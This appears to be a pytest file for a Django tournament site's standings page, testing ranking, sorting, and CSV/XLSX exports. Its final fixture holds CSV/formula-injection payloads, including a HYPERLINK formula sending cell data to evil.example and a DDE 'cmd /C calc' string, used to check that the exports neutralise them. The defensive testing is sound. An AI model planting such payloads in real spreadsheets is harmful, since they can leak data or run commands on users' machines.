"""The public standings page: ranking, marks, sorting, exports, query count."""

from __future__ import annotations

import csv
import io
import re
from fractions import Fraction

import pytest
from django.urls import reverse
from openpyxl import load_workbook
from test_public_scenario import body_rows, build_cup, build_field

from tournament.domain.points import points_as_decimal
from tournament.models import Player, Tournament
from tournament.services import add_player
from tournament.web.standings_table import StandingsTable

URL = reverse("public:standings", args=["spring-cup"])


def keys_in_order(response) -> list[str]:
    return re.findall(r'<tr[^>]*data-key="([^"]+)"', response.content.decode())


def test_ranks_players_by_table_points_then_score_with_shared_ranks(client, cup):
    response = client.get(URL)

    assert response.status_code == 200
    rows = body_rows(response.content.decode(), "standings")
    assert [row[:3] + row[5:] for row in rows] == [
        ["1", "1", "Ann Archer", "4", "50", "1"],
        ["2", "5", "Eve Evans", "2 1/3", "16", "1"],
        ["2", "6", "Fay Fox", "2 1/3", "16", "1"],
        ["2", "7", "Gus Green", "2 1/3", "16", "1"],
        ["5", "2", "Ben Baker", "2", "30", "1"],
        ["6", "3", "Cai Chen", "1", "-36", "1"],
        ["7", "8", "Hal Hill", "0", "-48", "1"],
        ["8", "4", "Dora Diaz withdrawn from round 2", "0", "-54", "1"],
        ["–", "9", "Ivy Ito substitute", "0", "0", "0"],
    ]
    assert rows[0][3:5] == ["NL", "Dragons"]


def test_marks_substitutes_and_withdrawn_players(client, cup):
    html = client.get(URL).content.decode()

    assert re.search(r'<tr class="substitute \w+" data-key="9"', html)
    assert re.search(r'<tr class="withdrawn \w+" data-key="4"', html)


def test_names_link_to_the_player_pages(client, cup):
    html = client.get(URL).content.decode()

    assert f'href="{reverse("public:player", args=["spring-cup", "5"])}"' in html


def test_says_that_only_confirmed_games_count_and_how_many(client, cup):
    html = client.get(URL).content.decode()

    # Round 1 has two confirmed games; round 2 has two open ones; the draft round 3 is not
    # counted.
    assert "Only confirmed games count" in html
    assert "2 games counted" in html
    assert "2 still in play or not started" in html
    assert "awaiting confirmation</strong>" not in html
    assert (
        "Ranked by table points, then score, then best single game score, then more high game "
        "scores; equal players share a rank." in " ".join(html.split())
    )


def test_a_tournament_without_players_shows_an_empty_table(client, tournament):
    response = client.get(URL)

    assert response.status_code == 200
    assert "No players yet." in response.content.decode()
    assert "0 games counted" in response.content.decode()


def test_headers_are_sort_links(client, cup):
    html = client.get(URL).content.decode()

    assert 'href="?sort=table_points"' in html
    assert 'href="?sort=score"' in html


def test_sorts_by_score_both_ways(client, cup):
    assert keys_in_order(client.get(URL, {"sort": "score"})) == [
        "4", "8", "3", "9", "5", "6", "7", "2", "1",
    ]  # fmt: skip
    assert keys_in_order(client.get(URL, {"sort": "-score"})) == [
        "1", "2", "5", "6", "7", "9", "3", "8", "4",
    ]  # fmt: skip


def test_sorts_start_numbers_as_numbers(client, tournament, organiser):
    build_field(tournament, organiser, tables=3)

    keys = keys_in_order(client.get(URL, {"sort": "key"}))

    assert keys == [str(number) for number in range(1, 13)]


def test_sorts_by_name(client, cup):
    assert keys_in_order(client.get(URL, {"sort": "name"})) == [str(n) for n in range(1, 10)]
    assert keys_in_order(client.get(URL, {"sort": "-name"})) == [str(n) for n in range(9, 0, -1)]


def test_sorting_by_rank_keeps_substitutes_after_ranked_players(client, cup):
    assert keys_in_order(client.get(URL, {"sort": "rank"})) == [
        "1", "5", "6", "7", "2", "3", "8", "4", "9",
    ]  # fmt: skip


def test_sorts_table_points_by_value_not_text(client, tournament, organiser):
    # With 12/6/3/0, the three tied on top of table 2 get 7 each and Ann 12: as text "12"
    # would come before "3", "6" and "7".
    tournament.table_points = [12, 6, 3, 0]
    tournament.save()
    build_cup(tournament, organiser)

    ascending = keys_in_order(client.get(URL, {"sort": "table_points"}))
    descending = keys_in_order(client.get(URL, {"sort": "-table_points"}))

    assert ascending == ["8", "4", "9", "3", "2", "5", "6", "7", "1"]
    assert descending[0] == "1"
    assert descending[-3:] == ["8", "4", "9"]


def test_table_column_sorts_fractions_by_value():
    rows = [
        {"key": "a", "name": "A", "table_points": Fraction(10)},
        {"key": "b", "name": "B", "table_points": Fraction(7, 3)},
        {"key": "c", "name": "C", "table_points": Fraction(3)},
    ]
    for row in rows:
        row.update(
            rank=1, rank_order=1, key_order=row["key"], country="", club="", score=0, games=0,
            table_points_exact=row["table_points"], substitute=False, withdrawn_from_round=None,
        )  # fmt: skip
    table = StandingsTable(rows, tournament=Tournament(slug="x"), order_by="table_points")

    assert [row.record["key"] for row in table.rows] == ["b", "c", "a"]


def test_an_unknown_sort_column_is_ignored(client, cup):
    response = client.get(URL, {"sort": "nonsense"})

    assert response.status_code == 200
    assert keys_in_order(response)[0] == "1"


def test_points_as_decimal_rounds_thirds_and_keeps_quarters_exact():
    assert str(points_as_decimal(Fraction(7, 3))) == "2.33"
    assert str(points_as_decimal(Fraction(7, 4))) == "1.75"
    assert str(points_as_decimal(Fraction(5, 3))) == "1.67"
    assert str(points_as_decimal(Fraction(4))) == "4.00"


HEADER = [
    "Rank", "Key", "Name", "Country", "Club", "Table points", "Score", "Games",
    "Table points (exact)", "Substitute", "Withdrawn from round",
]  # fmt: skip


def test_csv_export_has_plain_values(client, cup):
    response = client.get(URL, {"_export": "csv"})

    assert response.status_code == 200
    assert response["Content-Type"].startswith("text/csv")
    assert 'filename="spring-cup-standings.csv"' in response["Content-Disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert rows[0] == HEADER
    assert rows[1] == ["1", "1", "Ann Archer", "NL", "Dragons", "4.00", "50", "1", "4", "no", ""]
    assert rows[2] == ["2", "5", "Eve Evans", "GB", "", "2.33", "16", "1", "7/3", "no", ""]
    assert rows[8] == ["8", "4", "Dora Diaz", "ES", "Dragons", "0.00", "-54", "1", "0", "no", "2"]
    assert rows[9] == ["", "9", "Ivy Ito", "", "", "0.00", "0", "0", "0", "yes", ""]
    assert len(rows) == 10


def test_csv_export_follows_the_chosen_order(client, cup):
    response = client.get(URL, {"_export": "csv", "sort": "-score"})

    keys = [row[1] for row in csv.reader(io.StringIO(response.content.decode("utf-8-sig")))]
    assert keys[1:] == ["1", "2", "5", "6", "7", "9", "3", "8", "4"]


def test_xlsx_export_has_numbers_in_number_cells(client, cup):
    response = client.get(URL, {"_export": "xlsx"})

    assert response.status_code == 200
    assert response["Content-Type"] == (
        "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    )
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet.title == "Standings"
    assert [cell.value for cell in sheet[1]] == HEADER
    ann = [cell.value for cell in sheet[2]]
    assert ann[:8] == [1, "1", "Ann Archer", "NL", "Dragons", 4, 50, 1]
    eve = [cell.value for cell in sheet[3]]
    assert eve[5] == pytest.approx(2.33)
    assert isinstance(eve[5], float)
    assert eve[8] == "7/3"
    assert sheet["B8"].value == "8"  # Hal: keys stay text
    assert sheet["G8"].value == -48
    assert sheet["A10"].value is None  # Ivy, a substitute, has no rank
    assert sheet["J10"].value == "yes"
    assert sheet["K9"].value == 2  # Dora withdrew from round 2
    assert sheet.max_row == 10


def test_an_unknown_export_format_is_a_clear_error(client, cup):
    response = client.get(URL, {"_export": "pdf"})

    assert response.status_code == 400
    assert "csv or xlsx" in response.content.decode()


@pytest.mark.parametrize("tables", [2, 6])
def test_query_count_does_not_grow_with_the_field(
    client, tournament, organiser, tables, django_assert_max_num_queries
):
    build_field(tournament, organiser, tables=tables)

    # Five: the tournament, its LiveVersion number (the key of the kept rows), players,
    # seats and the games played.
    with django_assert_max_num_queries(5):
        response = client.get(URL)
    assert response.status_code == 200
    assert len(keys_in_order(response)) == 4 * tables
    with django_assert_max_num_queries(3):
        assert client.get(URL, {"_export": "xlsx"}).status_code == 200


HOSTILE = {
    "key": "@1",
    "name": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
    "country": "+cmd|' /C calc'!A0",
    "club": "-1+1",
}


@pytest.fixture
def hostile(tournament):
    # The key's alphabet and the country codes refuse these now; written past them (stored
    # before the checks), the export still neutralises them.
    player = add_player(tournament=tournament, **{**HOSTILE, "key": "1", "country": ""})
    Player.objects.filter(pk=player.pk).update(key=HOSTILE["key"], country=HOSTILE["country"])
    add_player(tournament=tournament, key="2", name="Plain\tTab", club="\rClub")
    return tournament


def test_csv_export_writes_typed_text_that_cannot_be_a_formula(client, hostile):
    response = client.get(URL, {"_export": "csv"})

    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    by_name = {row[2]: dict(zip(HEADER, row, strict=True)) for row in rows[1:]}
    first = by_name["'" + HOSTILE["name"]]
    assert [first[column] for column in ("Key", "Country", "Club")] == [
        "'" + HOSTILE[field] for field in ("key", "country", "club")
    ]
    assert by_name["Plain\tTab"]["Club"] == "'\rClub"  # a tab inside the text is harmless


def test_xlsx_export_writes_typed_text_that_cannot_be_a_formula(client, hostile):
    response = client.get(URL, {"_export": "xlsx"})

    sheet = load_workbook(io.BytesIO(response.content)).active
    rows = [[cell for cell in row] for row in sheet.iter_rows(min_row=2)]
    assert not [cell.coordinate for row in rows for cell in row if cell.data_type == "f"]
    names = [row[2].value for row in rows]
    assert "'" + HOSTILE["name"] in names
    assert [row[6].value for row in rows] == [0, 0]  # numbers stay numbers
